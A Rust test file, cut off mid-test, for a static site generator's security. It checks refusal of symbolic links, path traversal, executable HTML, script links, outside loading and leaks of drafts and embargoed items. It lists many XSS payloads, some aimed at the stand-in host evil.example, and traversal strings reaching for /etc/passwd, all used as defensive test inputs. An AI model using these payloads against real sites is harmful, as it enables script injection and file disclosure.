//! Nothing gets in that should stay out, nothing gets out that should stay in: links in the file system, paths, HTML,
//! escaping, third parties, drafts, and input made to break the program.

use std::collections::BTreeSet;
use std::fs;
use std::io::Cursor;
use std::os::unix::fs::symlink;

use image::{ImageFormat, RgbImage};
use serde_json::Value;
use tempfile::TempDir;

use super::support::{NOW, SiteTest, Tree, read_tree, tags, tags_named, text, words};

/// In every file that must not be reached, and in every payload that must not arrive.
const SECRET: &str = "qz7secret";

const FAIR: &str = "
=== content/2024/fair.zh.md
---
title: 千山市召开春季招聘会
date: 2024-03-05
translation: none
---
招聘会三月五日举行。
";

/// A small picture that decodes.
fn png() -> Vec<u8> {
    let mut bytes = Cursor::new(Vec::new());
    RgbImage::new(3, 2)
        .write_to(&mut bytes, ImageFormat::Png)
        .unwrap();
    bytes.into_inner()
}

/// The files that hold these bytes.
fn files_with<'t>(tree: &'t Tree, needle: &str) -> Vec<&'t str> {
    tree.iter()
        .filter(|(path, bytes)| {
            path.contains(needle)
                || bytes
                    .windows(needle.len())
                    .any(|window| window == needle.as_bytes())
        })
        .map(|(path, _)| path.as_str())
        .collect()
}

/// Builds, which must fail with exactly these codes, publish nothing and leave nothing behind.
#[track_caller]
fn assert_refused(site: &SiteTest, expected: &[&str]) {
    let run = site.run(&["build", "--now", NOW, "--format", "json"]);
    assert_eq!(run.status, 1, "{}", run.stdout);
    assert_eq!(run.error_codes(), expected, "{}", run.stdout);
    assert!(site.output().is_empty());
}

// Links in the file system

#[test]
fn a_symbolic_link_to_a_file_is_refused_whatever_kind_of_file() {
    let outside = TempDir::new().unwrap();
    let target = outside.path().join("target");
    fs::write(&target, format!("---\ntitle: {SECRET}\n---\n{SECRET}\n")).unwrap();
    for path in [
        "content/2024/leak.zh.md",
        "content/2024/leak.png",
        "content/2024/leak.pdf",
        "content/static/leak.txt",
        "content/static/.well-known/security.txt",
    ] {
        let site = SiteTest::new(FAIR);
        fs::create_dir_all(site.path(path).parent().unwrap()).unwrap();
        symlink(&target, site.path(path)).unwrap();
        assert_refused(&site, &["symbolic-link"]);
    }
}

#[test]
fn a_symbolic_link_to_a_folder_is_refused_and_not_walked() {
    let outside = TempDir::new().unwrap();
    // Two mistakes that would be reported if anything in here were read.
    fs::write(outside.path().join("leak.zh.md"), SECRET).unwrap();
    fs::write(outside.path().join("leak.md"), SECRET).unwrap();
    for path in ["content/2024/more", "content/static", "content/2024/fair"] {
        let site = SiteTest::new(FAIR);
        symlink(outside.path(), site.path(path)).unwrap();
        assert_refused(&site, &["symbolic-link"]);
    }
}

#[test]
fn a_symbolic_link_that_leads_nowhere_or_in_a_circle_is_refused_too() {
    let site = SiteTest::new(FAIR);
    symlink("no-such-file", site.path("content/2024/gone.zh.md")).unwrap();
    symlink("..", site.path("content/2024/round")).unwrap();
    assert_refused(&site, &["symbolic-link", "symbolic-link"]);
}

#[test]
fn the_configuration_is_not_read_through_a_symbolic_link() {
    for file in ["content/site.yaml", "content/topics.yaml"] {
        let site = SiteTest::new(FAIR);
        fs::rename(site.path(file), site.path("elsewhere.yaml")).unwrap();
        symlink(site.path("elsewhere.yaml"), site.path(file)).unwrap();
        assert_refused(&site, &["symbolic-link"]);
    }
}

#[test]
fn the_content_folder_may_not_be_a_symbolic_link_itself() {
    let site = SiteTest::new(FAIR);
    fs::rename(site.path("content"), site.path("elsewhere")).unwrap();
    symlink("elsewhere", site.path("content")).unwrap();
    assert_refused(&site, &["symbolic-link"]);
}

#[test]
fn a_theme_is_not_read_through_a_symbolic_link() {
    let outside = TempDir::new().unwrap();
    fs::write(outside.path().join("home.html"), SECRET).unwrap();
    let theme = |site: &SiteTest| {
        let yaml = fs::read_to_string(site.path("content/site.yaml")).unwrap();
        site.write("content/site.yaml", format!("{yaml}theme: spring\n"));
    };

    let site = SiteTest::new(FAIR);
    theme(&site);
    fs::create_dir_all(site.path("themes/spring")).unwrap();
    symlink(
        outside.path().join("home.html"),
        site.path("themes/spring/home.html"),
    )
    .unwrap();
    assert_refused(&site, &["symbolic-link"]);

    let site = SiteTest::new(FAIR);
    theme(&site);
    fs::create_dir_all(site.path("themes")).unwrap();
    symlink(outside.path(), site.path("themes/spring")).unwrap();
    assert_refused(&site, &["symbolic-link"]);
}

#[test]
fn an_output_folder_that_is_a_symbolic_link_is_refused() {
    let outside = TempDir::new().unwrap();
    let site = SiteTest::new(FAIR);
    symlink(outside.path(), site.path("public")).unwrap();
    assert_refused(&site, &["output-is-link"]);
    assert_eq!(read_tree(outside.path()), Tree::new());
}

#[test]
fn a_folder_of_the_output_that_became_a_symbolic_link_is_never_written_through() {
    let outside = TempDir::new().unwrap();
    let site = SiteTest::new(FAIR);
    site.build();
    fs::rename(site.path("public/zh"), outside.path().join("zh")).unwrap();
    symlink(outside.path().join("zh"), site.path("public/zh")).unwrap();
    let (there, public) = (read_tree(outside.path()), read_tree(&site.path("public")));

    site.write(
        "content/2024/more.zh.md",
        "---\ntitle: 又一场\ndate: 2024-03-06\ntranslation: none\n---\n又一场。\n",
    );
    let run = site.run(&["build", "--now", NOW]);

    assert_eq!(run.status, 1, "{}", run.stderr);
    assert!(
        run.stderr.contains("error[output-is-link]"),
        "{}",
        run.stderr
    );
    assert_eq!(read_tree(outside.path()), there);
    assert_eq!(read_tree(&site.path("public")), public);
}

#[test]
fn nothing_is_removed_through_a_symbolic_link() {
    let outside = TempDir::new().unwrap();
    let site = SiteTest::new(&format!(
        "{FAIR}=== content/2023/old.zh.md\n---\ntitle: 旧公告\ndate: 2023-03-06\ntranslation: none\n---\n旧公告。\n"
    ));
    site.build();
    fs::rename(site.path("public/zh/2023"), outside.path().join("2023")).unwrap();
    symlink(outside.path().join("2023"), site.path("public/zh/2023")).unwrap();
    let (there, public) = (read_tree(outside.path()), read_tree(&site.path("public")));

    site.remove("content/2023/old.zh.md");
    let run = site.run(&["build", "--now", NOW]);

    assert_eq!(run.status, 1, "{}", run.stderr);
    assert!(
        run.stderr.contains("error[output-is-link]"),
        "{}",
        run.stderr
    );
    assert_eq!(read_tree(outside.path()), there);
    // All or nothing: the new lists are not there either.
    assert_eq!(read_tree(&site.path("public")), public);
}

#[test]
fn a_file_of_the_output_that_became_a_symbolic_link_is_replaced_and_its_target_kept() {
    let outside = TempDir::new().unwrap();
    let target = outside.path().join("target");
    let site = SiteTest::new(FAIR);
    let before = site.build();
    for bytes in [SECRET.as_bytes(), &before["index.html"]] {
        fs::write(&target, bytes).unwrap();
        site.remove("public/index.html");
        symlink(&target, site.path("public/index.html")).unwrap();
        // A tree holds regular files only, so a link left in place would be missing from it.
        assert_eq!(site.build(), before);
        assert_eq!(fs::read(&target).unwrap(), bytes);
    }
}

#[test]
fn a_manifest_that_is_a_symbolic_link_is_not_written_through() {
    let outside = TempDir::new().unwrap();
    let target = outside.path().join("target");
    let site = SiteTest::new(FAIR);
    site.build();
    fs::rename(site.path("public/SHA256SUMS"), &target).unwrap();
    symlink(&target, site.path("public/SHA256SUMS")).unwrap();
    let before = fs::read(&target).unwrap();
    site.write(
        "content/2024/more.zh.md",
        "---\ntitle: 又一场\ndate: 2024-03-06\ntranslation: none\n---\n又一场。\n",
    );
    site.run(&["build", "--now", NOW]);
    assert_eq!(fs::read(&target).unwrap(), before);
}

// Paths

/// A site whose announcement has this in its front matter or text, with a file outside of `content` to reach for.
fn reaching(front_matter: &str, body: &str) -> SiteTest {
    let site = SiteTest::new(&format!(
        "=== content/2024/fair.zh.md\n---\ntitle: 千山市召开春季招聘会\ndate: 2024-03-05\ntranslation: none\n{front_matter}---\n{body}\n"
    ));
    site.write("outside.png", png());
    site.write("outside.pdf", SECRET);
    site
}

#[test]
fn no_path_leads_out_of_the_content_folder() {
    for front_matter in [
        "image: {src: ../../outside.png}\n",
        "image: {src: ../../../../../../../../etc/passwd}\n",
        "image: {src: /etc/passwd}\n",
        "image: {src: '..\\..\\outside.png'}\n",
        "attachments: [{src: ../../outside.pdf}]\n",
        "attachments: [{src: ../../content/../outside.pdf}]\n",
        "attachments: [{src: /outside.pdf}]\n",
    ] {
        assert_refused(&reaching(front_matter, "公告。"), &["outside-content"]);
    }
    for body in [
        "![图](../../outside.png)",
        "![图](%2e%2e/%2E%2E/outside.png)",
        "[表](../../outside.pdf)",
        "[表](..%2f..%2foutside.pdf)",
        "[表](..\\\\..\\\\outside.pdf)",
        "<a href=\"../../outside.pdf\">表</a>",
        "<img src=\"../../outside.png\">",
    ] {
        assert_refused(&reaching("", body), &["outside-content"]);
    }
}

#[test]
fn a_path_from_the_root_of_the_machine_is_an_address_of_the_site_and_nothing_else() {
    assert_refused(&reaching("", "[表](/etc/passwd)"), &["broken-link"]);
    assert_refused(&reaching("", "[表](/../../etc/passwd)"), &["broken-link"]);
    assert_refused(
        &reaching("", "[表](file:///etc/passwd)"),
        &["forbidden-link"],
    );
    assert_refused(
        &reaching("", "![图](file:///etc/passwd)"),
        &["forbidden-link"],
    );
    let tree = reaching("", "![图](/etc/passwd)").build();
    assert!(files_with(&tree, "etc/passwd").is_empty());
}

#[test]
fn the_configuration_is_no_file_to_link_to() {
    assert_refused(&reaching("", "[设置](../site.yaml)"), &["broken-link"]);
    assert_refused(
        &reaching("attachments: [{src: ../topics.yaml}]\n", "公告。"),
        &["missing-attachment"],
    );
}

#[test]
fn no_address_leads_out_of_the_output_folder() {
    for alias in [
        "/../x/",
        "/a/../../x/",
        "/%2e%2e/x/",
        "/..%2fx/",
        "//x/",
        "https://x/",
        "/a\\b/",
        "x",
    ] {
        let site = reaching(&format!("aliases: ['{alias}']\n"), "公告。");
        assert_refused(&site, &["bad-alias"]);
    }
    for slug in ["..", "a/b", "/etc", "%2e%2e"] {
        let site = reaching(&format!("slug: '{slug}'\n"), "公告。");
        assert_refused(&site, &["bad-name"]);
    }
    let site = reaching("series: {id: ../x}\n", "公告。");
    assert_refused(&site, &["bad-name"]);
}

#[test]
fn no_alias_takes_the_place_of_the_manifest() {
    let site = reaching("aliases: [/SHA256SUMS]\n", "公告。");
    assert_refused(&site, &["address-inside"]);
    let site = SiteTest::new(FAIR);
    site.write("content/static/SHA256SUMS", SECRET);
    assert_refused(&site, &["address-taken"]);
}

#[test]
fn a_theme_is_a_folder_below_themes() {
    for name in ["../outside", "/etc", "..", ".", "a/../../outside"] {
        let site = SiteTest::new(FAIR);
        site.write("outside/home.html", SECRET);
        let yaml = fs::read_to_string(site.path("content/site.yaml")).unwrap();
        site.write("content/site.yaml", format!("{yaml}theme: {name}\n"));
        assert_refused(&site, &["unknown-theme"]);
    }
}

// HTML

/// What a page of the default theme is made of and a body may hold; everything else came from somewhere else.
const EXPECTED_TAGS: &[&str] = &[
    "a",
    "article",
    "b",
    "blockquote",
    "body",
    "br",
    "code",
    "dd",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "head",
    "header",
    "html",
    "i",
    "img",
    "li",
    "link",
    "main",
    "meta",
    "nav",
    "ol",
    "p",
    "picture",
    "pre",
    "script",
    "section",
    "small",
    "source",
    "span",
    "strong",
    "style",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "time",
    "title",
    "tr",
    "ul",
];

/// Checks that the pages hold nothing executable, nothing that acts by itself, and no secret.
#[track_caller]
fn assert_harmless(tree: &Tree, about: &str) {
    assert_eq!(files_with(tree, SECRET), Vec::<&str>::new(), "{about}");
    for path in tree.keys().filter(|path| path.ends_with(".html")) {
        let page = text(tree, path);
        // A second one would be somebody else's.
        for once in ["<body", "<main", "<title"] {
            assert_eq!(page.matches(once).count(), 1, "{about}: {once} in {path}");
        }
        // Up to its end tag, a title is words, whatever they look like.
        let (start, end) = (
            page.find("<title>").unwrap(),
            page.find("</title>").unwrap(),
        );
        let page = format!("{}{}", &page[..start], &page[end..]);
        for tag in tags(&page) {
            let shown = format!("{about}: {tag:?} in {path}");
            assert!(EXPECTED_TAGS.contains(&tag.name.as_str()), "{shown}");
            match tag.name.as_str() {
                "script" => assert_eq!(tag.value("type"), "application/ld+json", "{shown}"),
                "meta" => assert!(!tag.has("http-equiv"), "{shown}"),
                "link" => assert_ne!(tag.value("rel"), "stylesheet", "{shown}"),
                _ => {}
            }
            for (name, value) in tag.attributes() {
                assert!(!name.starts_with("on") && name != "style", "{shown}");
                let value: String = value
                    .chars()
                    .filter(|character| !character.is_whitespace() && !character.is_control())
                    .collect();
                let value = value.to_ascii_lowercase();
                assert!(
                    !value.starts_with("javascript:") && !value.starts_with("data:"),
                    "{shown}"
                );
            }
        }
    }
}

/// HTML that is left out of the page. `qz7secret` is where something would run or load; a warning says so.
const LEFT_OUT: &[&str] = &[
    "<script>qz7secret()</script>",
    "<script src=\"https://evil.example/qz7secret.js\"></script>",
    "<SCRIPT\n>qz7secret()</SCRIPT\n>",
    "前<script>qz7secret()</script>后",
    "<scr<script>ipt>qz7secret()</script>",
    "<style>body{background:url(//evil.example/qz7secret)}</style>",
    "<svg onload=qz7secret()><circle/></svg>",
    "<svg><script>qz7secret()</script></svg>",
    "<svg><a xlink:href=\"javascript:qz7secret()\"><text>x</text></a></svg>",
    "<math><mi xlink:href=\"javascript:qz7secret()\">x</mi></math>",
    "<form action=\"https://evil.example/qz7secret\"><input name=qz7secret><button formaction=\"javascript:qz7secret()\">按钮</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/qz7secret\">",
    "<base href=\"https://evil.example/qz7secret/\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/qz7secret.css\">",
    "<object data=\"https://evil.example/qz7secret.swf\"></object>",
    "<embed src=\"https://evil.example/qz7secret.swf\">",
    "<applet code=qz7secret></applet>",
    "<video src=\"https://evil.example/qz7secret.mp4\" poster=\"https://evil.example/qz7secret.png\"></video>",
    "<audio src=\"https://evil.example/qz7secret.mp3\" autoplay></audio>",
    "<iframe srcdoc=\"<script>qz7secret()</script>\"></iframe>",
    "<iframe src=\"javascript:qz7secret()\"></iframe>",
    "<iframe src=\"data:text/html,qz7secret\"></iframe>",
    "<template><img src=\"https://evil.example/qz7secret.png\"></template>",
    "<p onclick=\"qz7secret()\">段落</p>",
    "<b ONCLICK='qz7secret()'>粗</b>",
    "<details open ontoggle=qz7secret()><summary>详情</summary></details>",
    "<p style=\"background:url(https://evil.example/qz7secret.png)\">段落</p>",
    "<img src=\"map.png\" alt=\"图\" onerror=\"qz7secret()\">",
    "<img src=\"map.png\" srcset=\"https://evil.example/qz7secret.png 2x\" alt=\"图\">",
    "<a href=\"https://example.org/\" onmouseover=\"qz7secret()\" style=\"position:fixed\">链接</a>",
    "<p title=\"--><script>qz7secret()</script>\">段落</p>",
    "<!--><img src=\"map.png\" onerror=\"qz7secret()\">-->",
    "<!-- --!><script>qz7secret()</script> -->",
    "<?php qz7secret() ?>",
    "<!DOCTYPE qz7secret>",
    "<noscript><p title=\"</noscript><script>qz7secret()</script>\"></noscript>",
    "<p id=\"main\" class=\"qz7secret\">段落</p>",
];

/// Nearly HTML: Markdown takes these as words, or they are words inside of a description, and words are shown.
const SHOWN_AS_WORDS: &[&str] = &[
    "<svg/onload=qz7()>",
    "<b/onclick=qz7()>粗</b>",
    "<img src='map.png' alt='\"><script>qz7()</script>'>",
    "<img src=\"map.png\" onerror=qz7() ",
    "<![CDATA[<script>qz7()</script>]]>",
];

fn payloads() -> impl Iterator<Item = &'static str> {
    LEFT_OUT.iter().chain(SHOWN_AS_WORDS).copied()
}

#[test]
fn nothing_executable_in_a_body_reaches_a_page_or_a_feed() {
    let site = SiteTest::new("");
    for (number, html) in payloads().enumerate() {
        let path = format!("content/2024/notice-{number}");
        site.write(&format!("{path}/map.png"), png());
        // As a block, inside of a paragraph, and in a list: the Markdown parser takes each its own way.
        site.write(
            &format!("{path}/index.zh.md"),
            format!(
                "---\ntitle: 第{number}号公告\ndate: 2024-03-05\ntranslation: none\n---\n开头。\n\n{html}\n\n文字{html}文字\n\n- {html}\n\n结尾。\n"
            ),
        );
    }
    let tree = site.build();
    assert_harmless(&tree, "all");
    for (number, html) in payloads().enumerate() {
        let page = text(&tree, &format!("zh/2024/03/05/notice-{number}/index.html"));
        let shown = words(page);
        // Not even an element that is never closed swallows what follows it.
        assert!(
            shown.contains("开头。") && shown.contains("结尾。"),
            "{html}\n{page}"
        );
    }
}

#[test]
fn what_is_left_out_is_said() {
    let cases = [
        ("<script>x()</script>", "<script>"),
        ("<style>p{}</style>", "<style>"),
        ("<form><input></form>", "<form>"),
        ("<p onclick=\"x()\">段落</p>", "<p onclick>"),
        ("<meta http-equiv=\"refresh\" content=\"0\">", "<meta>"),
        ("<base href=\"/\">", "<base>"),
        ("<object data=\"x\"></object>", "<object>"),
        ("<svg></svg>", "<svg>"),
    ];
    for (html, element) in cases {
        let site = reaching("", &format!("公告。\n\n{html}"));
        let run = site.run(&["check", "--now", NOW]);
        assert_eq!(run.status, 0, "{}", run.stderr);
        let message = format!("warning[html-removed]: the HTML element {element} is not published");
        assert!(run.stderr.contains(&message), "{html}\n{}", run.stderr);
    }
}

#[test]
fn an_address_that_runs_something_stops_the_build() {
    for body in [
        "[这里](javascript:alert(1))",
        "[这里](JavaScript:alert(1))",
        "[这里](<javascript:alert(1)>)",
        "[这里](&#106;avascript:alert(1))",
        "[这里](vbscript:alert(1))",
        "[这里](data:text/html,alert(1))",
        "[这里][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![图](javascript:alert(1))",
        "![图](data:image/svg+xml,alert(1))",
        "<a href=\"javascript:alert(1)\">这里</a>",
        "<a href=javascript:alert(1)>这里</a>",
        "<img src=\"data:image/png;base64,AAAA\">",
        "[![图](map.png)](javascript:alert(1))",
    ] {
        let site = reaching("", body);
        site.write("content/2024/map.png", png());
        assert_refused(&site, &["forbidden-link"]);
    }
}

#[test]
fn a_disguised_script_address_is_no_address() {
    for href in [
        "java&#x09;script:qz7secret()",
        "java&#x0A;script:qz7secret()",
        "&#x01;javascript:qz7secret()",
        " javascript:qz7secret()",
        "&#32;javascript:qz7secret()",
        "&#106;&#97;vascript:qz7secret()",
        "javascript&colon;qz7secret()",
        "&Tab;javascript&colon;qz7secret()",
    ] {
        let site = reaching("", &format!("<a href=\"{href}\">这里</a>"));
        let run = site.run(&["build", "--now", NOW]);
        // An error is as good as a link that is not there.
        assert!(run.status == 0 || run.status == 1, "{href}");
        assert_harmless(&site.output(), href);
    }
}

#[test]
fn markdown_cannot_break_out_of_an_attribute() {
    let site = reaching(
        "",
        r#"
[一](https://example.org/ "\" onmouseover=\"qz7()")
[二](<https://example.org/"onmouseover=qz7()>)
![" onerror="qz7()](map.png "\" onerror=\"qz7()")
![<script>qz7()</script>](map.png)

| 列 {onclick=qz7()} |
|:--|
| <b>" onclick="qz7()</b> |

# 标题 {#main .x onclick=qz7()}

```"><script>qz7()</script>
代码
```

注[^"><script>qz7()</script>]

[^"><script>qz7()</script>]: 脚注 \<script>qz7()\</script> &lt;script&gt;qz7()&lt;/script&gt;
"#,
    );
    site.write("content/2024/map.png", png());
    let tree = site.build();
    assert_harmless(&tree, "attributes");
    assert!(files_with(&tree, "<script>qz7").is_empty());
}

#[test]
fn a_frame_of_another_server_is_a_link() {
    let tree = reaching(
        "",
        "<iframe src=\"https://video.example/v?a=1&amp;b=2\" onload=\"qz7secret()\"></iframe>",
    )
    .build();
    assert_harmless(&tree, "frame");
    let page = text(&tree, "zh/2024/03/05/fair/index.html");
    let link = tags_named(page, "a")
        .into_iter()
        .find(|link| link.value("href") == "https://video.example/v?a=1&b=2");
    assert_eq!(link.unwrap().words, "video.example");
}

// Escaping

/// What every text of the site holds: elements, both quotes, an ampersand, an entity, and ends of the places in which
/// a page and a feed carry text.
const SPIKY: &str =
    "<script>alert(1)</script> \"双\" '单' & &lt;b&gt; </title></style> <!-- ]]> \u{2028}{{ 7 }}";

#[test]
fn every_text_is_shown_as_it_is_written_and_never_run() {
    let quoted = serde_json::to_string(SPIKY).unwrap();
    let both = format!("{{zh: {quoted}, en: {quoted}}}");
    let site = SiteTest::new(&format!(
        "
=== content/site.yaml
title: {both}
description: {both}
base_url: https://news.example.org/
timezone: Asia/Shanghai
languages: [{{code: zh, tag: zh-Hans}}, {{code: en, tag: en}}]
series: {{spring: {both}}}
=== content/topics.yaml
employment: {both}
=== content/2024/fair/index.zh.md
---
title: {quoted}
summary: {quoted}
date: 2024-03-05
topics: [employment]
titles: {both}
issuer: [{quoted}]
source: {quoted}
source_url: https://example.org/?a=%22%3E&b='c'
document_number: {quoted}
keywords: [{quoted}]
series: {{id: spring, number: 1}}
image: {{src: map.png, alt: {both}, caption: {both}, credit: {both}}}
attachments: [{{src: \"岗位 '表' & #1.pdf\", title: {both}}}]
updates: [{{date: 2024-03-06, note: {both}}}]
aliases: [\"/old/a<b>&'c'/\"]
---
正文。
=== content/2024/fair/岗位 '表' & #1.pdf
(表)
"
    ));
    site.write("content/2024/fair/map.png", png());
    let tree = site.build();

    assert_harmless_except_redirect(&tree);
    let page = text(&tree, "zh/2024/03/05/fair/index.html");
    let spaced = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    let headline = &tags_named(page, "h1")[0];
    assert_eq!(spaced(&headline.words), spaced(SPIKY));
    let (start, end) = (
        page.find("<title>").unwrap(),
        page.find("</title>").unwrap(),
    );
    let title = page[start..end].replace("&lt;", "<").replace("&amp;", "&");
    assert!(title.contains("<script>alert(1)</script>"), "{title}");
    let image = &tags_named(page, "img")[0];
    assert_eq!(spaced(image.value("alt")), spaced(SPIKY));
    // Issuer, source, number, keyword, topic, series, caption, credit, attachment, update, summary: all of them.
    assert!(
        words(page).matches("alert(1)").count() >= 11,
        "{}",
        words(page)
    );

    let start = page.find("application/ld+json").unwrap();
    let start = start + page[start..].find('>').unwrap() + 1;
    let end = start + page[start..].find("</script>").unwrap();
    let data: Value = serde_json::from_str(&page[start..end]).unwrap();
    assert_eq!(
        spaced(data["@graph"][0]["headline"].as_str().unwrap()),
        spaced(SPIKY)
    );
    assert_eq!(data["@graph"][0]["publisher"]["name"], SPIKY);

    for feed in [
        "zh/feed.xml",
        "zh/feed.json",
        "zh/topics/employment/feed.xml",
    ] {
        let parsed = feed_rs::parser::parse(&tree[feed][..]).unwrap();
        let entry = &parsed.entries[0];
        for text in [
            entry.title.as_ref().unwrap(),
            entry
                .summary
                .as_ref()
                .unwrap_or(&parsed.title.clone().unwrap()),
            parsed.title.as_ref().unwrap(),
        ] {
            // The title of a topic's feed holds more than the site's.
            assert!(
                spaced(&text.content).contains(&spaced(SPIKY)),
                "{feed}: {text:?}"
            );
        }
    }
    let feed: Value = serde_json::from_str(text(&tree, "zh/feed.json")).unwrap();
    assert_eq!(
        spaced(feed["items"][0]["title"].as_str().unwrap()),
        spaced(SPIKY)
    );
    assert_eq!(feed["items"][0]["tags"][0], SPIKY);

    for path in tree.keys().filter(|path| path.ends_with(".xml")) {
        let mut reader = quick_xml::Reader::from_str(text(&tree, path));
        reader.config_mut().check_comments = true;
        loop {
            match reader.read_event() {
                Ok(quick_xml::events::Event::Eof) => break,
                Ok(quick_xml::events::Event::Start(element)) => {
                    assert_ne!(element.name().as_ref(), "script", "{path}")
                }
                Ok(_) => {}
                Err(error) => panic!("{path}: {error}"),
            }
        }
    }
}

/// The alias has a page that leads on by itself, as it should.
#[track_caller]
fn assert_harmless_except_redirect(tree: &Tree) {
    let pages: Tree = tree
        .iter()
        .filter(|(path, _)| !path.starts_with("old/"))
        .map(|(path, bytes)| (path.clone(), bytes.clone()))
        .collect();
    assert!(pages.len() < tree.len());
    assert_harmless(&pages, "spiky");
}

// Third parties

/// A variant's address without its hash and what follows: `/fair/map-3.*.png`.
fn nameless(candidate: &str) -> String {
    let address = candidate.split(' ').next().unwrap();
    let (start, extension) = address.rsplit_once('.').unwrap();
    let (stem, _) = start.rsplit_once('.').unwrap();
    format!("{stem}.*.{extension}")
}

#[test]
fn pages_load_nothing_from_another_server() {
    let site = reaching(
        "image: {src: map.png}\n",
        "![图](https://far.example/1.png)\n\n<a href=\"https://far.example/2\">二</a>\n\n<img src=\"https://far.example/3.png\">\n\n![地图](map.png)\n\n<iframe src=\"https://far.example/4\"></iframe>\n\n[链接](https://far.example/5)",
    );
    site.write("content/2024/map.png", png());
    let tree = site.build();
    let mut loaded = BTreeSet::new();
    for path in tree.keys().filter(|path| path.ends_with(".html")) {
        let page = text(&tree, path);
        assert!(
            !page.contains("url(") && !page.contains("@import"),
            "{path}"
        );
        for tag in tags(page) {
            for name in ["src", "srcset", "poster", "data", "background"] {
                if tag.has(name) {
                    let candidates = tag.value(name).split(", ");
                    loaded.extend(candidates.map(nameless));
                }
            }
            let loads = tag.name == "link"
                && [
                    "icon",
                    "stylesheet",
                    "preload",
                    "prefetch",
                    "preconnect",
                    "dns-prefetch",
                ]
                .contains(&tag.value("rel"));
            if loads {
                loaded.insert(tag.value("href").to_owned());
            }
        }
    }
    assert_eq!(
        loaded,
        ["avif", "png"]
            .map(|end| format!("/zh/2024/03/05/fair/map-3.*.{end}"))
            .into()
    );
    // Each is a link, so nothing that was written is lost.
    let page = text(&tree, "zh/2024/03/05/fair/index.html");
    for number in 1..=5 {
        assert!(
            page.contains(&format!("//far.example/{number}")),
            "{number}"
        );
    }
}

#[test]
fn an_address_that_leaves_its_scheme_to_the_page_is_one_of_another_server() {
    let site = reaching(
        "",
        "![图](//far.example/1.png)\n\n[链接](//far.example/2)\n\n<img src=\"//far.example/3.png\">",
    );
    let tree = site.build();
    let page = text(&tree, "zh/2024/03/05/fair/index.html");
    assert!(tags_named(page, "img").is_empty());
    for number in 1..=3 {
        assert!(
            page.contains(&format!("//far.example/{number}")),
            "{number}"
        );
    }
}

// Drafts and embargoes

/// Long enough to be taken for the same body as another.
fn long_text() -> String {
    "千山市人民政府新闻办公室今天公布春季招聘会的时间和地点，欢迎求职者参加，具体安排如下。"
        .repeat(5)
}

fn public_site() -> SiteTest {
    let site = SiteTest::new(&format!(
        "
=== content/site.yaml
title: {{zh: 千山市新闻办, en: Qianshan Press Office}}
base_url: https://news.example.org/
timezone: Asia/Shanghai
languages: [{{code: zh, tag: zh-Hans}}, {{code: en, tag: en}}]
series: {{spring: {{zh: 春季, en: Spring}}, quokka: {{zh: 袋鼠系列, en: Quokka series}}}}
=== content/topics.yaml
employment: {{zh: 就业, en: Employment}}
quokka: {{zh: 袋鼠, en: Quokka}}
=== content/2024/fair.zh.md
---
title: 千山市召开春季招聘会
date: 2024-03-05
topics: [employment]
series: {{id: spring, number: 1}}
---
{}
=== content/2024/fair.en.md
---
title: Spring job fair opens
---
The fair opens.
=== content/2024/after.zh.md
---
title: 千山市公布办公时间
date: 2024-03-09
topics: [employment]
translation: none
---
办公时间为九时至十七时。
",
        long_text()
    ));
    // There from the start, so that the two trees differ in the announcement only.
    site.write("content/2024/xenops-photo.png", png());
    site.write("content/2024/xenops-plan.pdf", SECRET);
    site
}

/// An announcement that is not public yet, between the others in time, with a word of its own in everything, and the
/// text of a public one in its translation.
fn withheld(state: &str) -> [(&'static str, String); 2] {
    [
        (
            "content/2024/xenops.zh.md",
            format!(
                "---\ntitle: 獬豸公告\ndate: 2024-03-07\nslug: xenops-slug\ntopics: [employment, quokka]\n{state}titles: {{en: Xenops headline}}\nissuer: 獬豸局\nsource: 獬豸网\nkeywords: [獬豸词]\ndocument_number: 獬豸1号\nseries: {{id: quokka, number: 7}}\nimage: {{src: xenops-photo.png, caption: 獬豸图}}\nattachments: [{{src: xenops-plan.pdf, title: 獬豸表}}]\naliases: [/xenops-old/]\n---\n{}\n",
                long_text()
            ),
        ),
        (
            "content/2024/xenops.en.md",
            "---\ntitle: Xenops edition\n---\nXenops body.\n".into(),
        ),
    ]
}

/// Words that stand in a withheld announcement only.
const WITHHELD_WORDS: [&str; 4] = ["獬豸", "xenops", "Xenops", "quokka"];

#[track_caller]
fn assert_no_trace(site: &SiteTest, without: &Tree) {
    let tree = site.build();
    for word in WITHHELD_WORDS {
        assert_eq!(files_with(&tree, word), Vec::<&str>::new(), "{word}");
    }
    assert_eq!(files_with(&tree, SECRET), Vec::<&str>::new());
    // No count, no neighbour, no decision about its text: the same bytes as if it did not exist.
    assert!(tree == *without, "the output differs");
}

#[test]
fn a_draft_leaves_no_trace_in_any_byte() {
    let site = public_site();
    let without = site.build();
    for (path, text) in withheld("status: draft\n") {
        site.write(path, text);
    }
    assert_no_trace(&site, &without);
}

#[test]
fn an_embargoed_announcement_leaves_no_trace_in_any_byte() {
    let site = public_site();
    let without = site.build();
    for (path, text) in withheld("embargo: 2026-06-01 10:00\n") {
        site.write(path, text);
    }
    assert_no_trace(&site, &without);
}

#[test]
fn a_withheld_announcement_leaves_no_trace_after_a_build_with_drafts() {
    let site = public_site();
    let without = site.build();
    for (path, text) in withheld("status: draft\nembargo: 2026-06-01 10:00\n") {
        site.write(path, text);
    }
    let run = site.run(&["build", "--now", NOW, "--drafts"]);
    assert_eq!(run.status, 0, "{}", run.stderr);
    let tree = site.output();
    for path in [
        "zh/2024/03/07/xenops-slug/index.html",
        "en/2024/03/07/xenops-slug/index.html",
        "zh/2024/03/07/xenops-slug/xenops-plan.pdf",
        "zh/topics/quokka/index.html",
        "zh/series/quokka/index.html",
        "xenops-old/index.html",
    ] {
        assert!(tree.contains_key(path), "{path}");
    }
    assert!(text(&tree, "zh/feed.xml").contains("獬豸公告"));
    let photo = "zh/2024/03/07/xenops-slug/xenops-photo-3.";
    assert!(tree.keys().any(|path| path.starts_with(photo)));

    assert_no_trace(&site, &without);
    assert!(!site.path("public/xenops-old").exists());
}

#[test]
fn an_embargo_is_over_at_its_very_instant() {
    let site = public_site();
    for (path, text) in withheld("embargo: 2025-06-01 10:00\n") {
        site.write(path, text);
    }
